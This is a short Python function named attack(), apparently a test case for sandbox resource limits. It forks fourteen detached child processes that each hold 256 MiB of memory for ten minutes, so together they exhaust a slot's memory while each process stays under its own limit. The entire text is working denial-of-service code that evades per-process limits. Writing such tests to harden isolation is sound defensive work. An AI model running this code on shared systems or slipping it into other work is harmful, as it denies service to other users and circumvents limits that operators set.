# Takes the whole slot's memory in many processes, each below its own limit.
def attack():
    import posix
    import time

    for _ in range(14):
        try:
            if posix.fork() == 0:
                posix.setsid()
                try:
                    held = bytearray(b"x") * (256 << 20)
                finally:
                    time.sleep(600)
        except OSError:
            pass
    held = bytearray(b"x") * (256 << 20)
    time.sleep(600)
